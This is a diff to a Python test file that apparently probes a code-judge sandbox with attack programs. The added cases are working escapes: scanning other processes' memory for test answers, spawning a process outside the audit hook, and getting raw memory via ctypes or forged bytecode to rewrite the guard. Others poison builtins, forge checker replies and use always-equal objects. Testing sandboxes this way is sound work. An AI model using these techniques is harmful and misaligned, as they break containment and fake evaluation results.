@@ -43,6 +43,113 @@ def strlen(string):
     return -1
 """
 
+# The same answer from a process that no audit hook watches: `_posixsubprocess` made without an
+# import event, its fork_exec starting the interpreter on a scan of every process's memory (as a
+# user without `unshare`, the judge's own process, same uid and holding the test, is there).
+STRLEN_SCAN = r"""import os, re
+pat = re.compile(rb"candidate\('([a-z]*)'\) == (\d+)")
+found = {}
+for pid in os.listdir('/proc'):
+    if not pid.isdigit() or int(pid) == os.getpid():
+        continue
+    try:
+        with open(f'/proc/{pid}/maps') as m, open(f'/proc/{pid}/mem', 'rb') as mem:
+            for line in m:
+                a, b = (int(v, 16) for v in line.split()[0].split('-'))
+                try:
+                    mem.seek(a)
+                    for k, v in pat.findall(mem.read(min(b - a, 1 << 26))):
+                        found[k.decode()] = int(v)
+                except (OSError, OverflowError, ValueError, MemoryError):
+                    pass
+    except OSError:
+        pass
+open('answers', 'w').write(repr(found))
+"""
+STRLEN_FROM_OUTSIDE = f"import os, sys, _imp, importlib.machinery\nSCAN = {STRLEN_SCAN!r}\n" + r"""
+ANSWERS = None
+def strlen(string):
+    global ANSWERS
+    if ANSWERS is None:
+        spec = importlib.machinery.BuiltinImporter.find_spec('_posixsubprocess') or \
+            importlib.machinery.PathFinder.find_spec('_posixsubprocess')
+        ps = _imp.create_builtin(spec) if spec.origin == 'built-in' else _imp.create_dynamic(spec)
+        args = [sys.executable.encode(), b'-I', b'-c', SCAN.encode()]
+        r, w = os.pipe()
+        common = (args, [args[0]], True, (), None, None, -1, -1, -1, -1, -1, -1, r, w, True, True)
+        try:
+            pid = ps.fork_exec(*common, -1, None, None, None, -1, None, False)
+        except TypeError:
+            pid = ps.fork_exec(*common, None, None, None, -1, None)
+        os.waitpid(pid, 0)
+        ANSWERS = eval(open('answers').read())
+    return ANSWERS.get(string, -1)
+"""
+
+# Below the fallback's audit hook: with raw memory access (`memory()` -> peek, poke; the caller
+# prepends where it comes from) a program gives the guard's helpers, reached through the frame of a
+# PermissionError the guard raised, code that lets everything through, then writes TARGET.
+REWRITE_GUARD = r"""
+KEEP = []
+def swap_code(peek, poke, fn, new):
+    for off in range(0, 128, 8):
+        if peek(id(fn) + off) == id(fn.__code__):
+            KEEP.append(new)
+            poke(id(fn) + off, id(new))
+            return True
+    return False
+try:
+    open('../x', 'w')
+except PermissionError as e:
+    tb = e.__traceback__
+    while tb and tb.tb_frame.f_code.co_name != 'guard':
+        tb = tb.tb_next
+    loc = tb.tb_frame.f_locals
+    def yes(a=0, b=0, c=0, d=0): return True
+    def no(a=0, b=0, c=0, d=0, e=0): return False
+    def empty(a=0, b=0, c=0, d=0, e=0, f=0, g=0, h=0, i=0, j=0, k=0): return ''
+    peek, poke = memory()
+    print('rewrote', [swap_code(peek, poke, loc[n], c.__code__)
+                      for n, c in (('_inside', yes), ('_climbs', no), ('_resolve', empty))])
+open(TARGET, 'w').write('pwned')
+"""
+# ctypes as the harness left it in its process (it drops privileges with it): no import event
+CTYPES_MEMORY = r"""import sys
+def memory():
+    ct = sys.modules.get('ctypes') or __import__('ctypes')
+    class U(ct.Union):
+        _fields_ = [('v', ct.c_void_p), ('p', ct.POINTER(ct.c_ssize_t))]
+    u = U()
+    def peek(addr):
+        u.v = addr
+        return u.p[0]
+    def poke(addr, value):
+        u.v = addr
+        u.p[0] = value
+    return peek, poke
+"""
+# LOAD_CONST past the end of co_consts (bytecode is never checked): a fake bytearray over all memory
+BYTECODE_MEMORY = r"""import struct
+HELD = []
+def memory():
+    fake = struct.pack('<qqqqqqq', 1 << 20, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+    consts = (None,)
+    for pad in range(8):
+        holder = bytes(pad) + struct.pack('<q', id(fake) + 32)
+        slot, items = id(holder) + 32 + pad, id(consts) + 24
+        if (slot - items) % 8 == 0:
+            break
+    arg = ((slot - items) // 8) & 0xFFFFFFFF     # EXTENDED_ARG x3, LOAD_CONST, RETURN_VALUE
+    code = bytes([144, arg >> 24 & 255, 144, arg >> 16 & 255, 144, arg >> 8 & 255, 100, arg & 255, 83, 0])
+    def g():
+        return None
+    g.__code__ = g.__code__.replace(co_code=code, co_consts=consts, co_stacksize=2)
+    HELD.extend([fake, holder, consts, g.__code__])
+    mem = g()
+    return (lambda addr: struct.unpack_from('<q', mem, addr)[0],
+            lambda addr, value: struct.pack_into('<q', mem, addr, value))
+"""
+
 
 def nap(token: str) -> str:
     """How long the attacks' daemons sleep: 31337 s and a fraction naming the test run, so that a
@@ -103,6 +210,41 @@ def cases(d: str, port: int, unix_path: str, abstract: str, token: str) -> dict[
             "test": "def check(c):\n    assert c(helper(1)) == 11\n", "entry_point": "f"},
         "test from the harness's memory (HumanEval/23)": {
             "program": STRLEN_FROM_MEMORY, "test": STRLEN_TEST, "entry_point": "strlen"},
+        "test from the judge's memory, outside the hook (HumanEval/23)": {
+            "program": STRLEN_FROM_OUTSIDE, "test": STRLEN_TEST, "entry_point": "strlen"},
+        # the checker's secrets by introspection: its frames, its objects (gc), the test's constants
+        "the checker's frames and objects": exits(
+            "import gc, os, sys\ndef f(x):\n    found = set()\n    fr = sys._getframe()\n"
+            "    while fr:\n        found |= {repr(v) for v in fr.f_locals.values()}\n        fr = fr.f_back\n"
+            "    for o in gc.get_objects():\n"
+            "        if type(o).__name__ == 'function' and o.__name__ == 'check':\n"
+            "            c = o.__code__.co_consts\n"
+            "            return next(c[i + 1] for i, v in enumerate(c) if v == x and i + 1 < len(c))\n"
+            "        if type(o) is dict and ('nonce' in o or 'result_fd' in o):\n"
+            "            found |= {repr(v) for v in o.values()}\n"
+            "    for fd in range(3, 256):\n        for v in found:\n            try:\n"
+            "                os.write(fd, v.strip(\"'\").encode()[:64])\n"
+            "            except (OSError, ValueError):\n                pass\n"
+            "    os._exit(0)\n"),
+        "builtins, excepthooks, sys.modules poisoned": exits(
+            "import atexit, builtins, os, sys, threading\n"
+            "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
+            "builtins.isinstance = lambda *a: True\nsys.excepthook = lambda *a: os._exit(0)\n"
+            "threading.excepthook = lambda *a: os._exit(0)\nsys.modules['math'] = sys.modules['os']\n"
+            "atexit.register(os._exit, 0)\ndef f(x):\n    assert False\n"),
+        # frames of a made-up reply {"ok": 2} on every descriptor, from a thread, while f answers
+        "replies sent ahead from a thread": exits(
+            "import os, threading\n"
+            "msg = b'd' + (1).to_bytes(8, 'big') + b's' + (2).to_bytes(8, 'big') + b'ok' + b'i' + (1).to_bytes(8, 'big') + b'2'\n"
+            "frame = len(msg).to_bytes(8, 'big') + msg\n"
+            "def spam():\n    for _ in range(200):\n        for fd in range(3, 64):\n            try:\n"
+            "                os.write(fd, frame)\n            except OSError:\n                pass\n"
+            "threading.Thread(target=spam, daemon=True).start()\n"
+            "def f(x):\n    return 0\n"),
+        "lying containers": exits(
+            "class L(list):\n    def __eq__(self, o):\n        return True\n"
+            "class E:\n    __eq__ = lambda s, o: True\n    __bool__ = lambda s: True\n    __hash__ = lambda s: 0\n"
+            "def f(x):\n    return L([0]) if x == 1 else [E()]\n"),
         # -- files ---------------------------------------------------------------------------------
         "write outside": attack(f"open({keep!r}, 'w').write('pwned')"),
         "os.remove": attack(f"os.remove({keep!r})"),
@@ -127,6 +269,21 @@ def cases(d: str, port: int, unix_path: str, abstract: str, token: str) -> dict[
             "dfd = os.open(work, os.O_RDONLY | os.O_DIRECTORY)\nos.chdir(deep)\n"
             f"rel = '../' * len(work.strip('/').split('/')) + {d[1:]!r} + '/pwned'\n"
             "fd = os.open(rel, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=dfd)\nos.write(fd, b'pwned')"),
+        # below the fallback's audit hook: raw memory, then the guard rewritten (REWRITE_GUARD)
+        "ctypes the harness loaded, guard rewritten": attack(
+            f"TARGET = {keep!r}\n" + CTYPES_MEMORY + REWRITE_GUARD),
+        "forged bytecode, guard rewritten": attack(f"TARGET = {keep!r}\n" + BYTECODE_MEMORY + REWRITE_GUARD),
+        # a module built into the interpreter, made without an import event (Debian's python3 has
+        # _posixsubprocess built in; where it is a shared library, create_dynamic is refused)
+        "_imp.create_builtin('_posixsubprocess')": attack(
+            "import _imp, importlib.machinery\n"
+            "spec = importlib.machinery.BuiltinImporter.find_spec('_posixsubprocess') or "
+            "importlib.machinery.PathFinder.find_spec('_posixsubprocess')\n"
+            "_posixsubprocess = _imp.create_builtin(spec) if spec.origin == 'built-in' else _imp.create_dynamic(spec)\n"
+            + spawn_fork_exec.replace("import _posixsubprocess\n", "")),
+        "marshal.loads of hand-made code": attack(
+            "import marshal\nsrc = " + repr(f"open({keep!r}, 'w').write('pwned')")
+            + "\nexec(marshal.loads(marshal.dumps(compile(src, 'x', 'exec'))))"),
         "symlink then write": attack(f"os.symlink({keep!r}, 'link')\nopen('link', 'w').write('pwned')"),
         "hard link then write": attack(f"os.link({keep!r}, 'hl')\nopen('hl', 'w').write('pwned')"),
         "chmod outside": attack(f"os.chmod({keep!r}, 0o777)"),
@@ -186,6 +343,11 @@ if __name__ == "__main__":
     import warnings
     warnings.simplefilter("ignore")
     repo, mode, d, port, unix_path, abstract, token = sys.argv[1:8]
+    if mode == "fallback-bare":     # as if neither bubblewrap nor unshare were installed
+        import shutil
+        which = shutil.which
+        shutil.which = lambda name: None if name in ("unshare", "bwrap") else which(name)
+        mode = "fallback"
     sb = load_sandbox(repo)
     jobs = cases(d, int(port), unix_path, abstract, token)
     cfg = sb.SandboxConfig(mode=mode, timeout=4.0, cpu_seconds=3, memory_bytes=512 << 20,
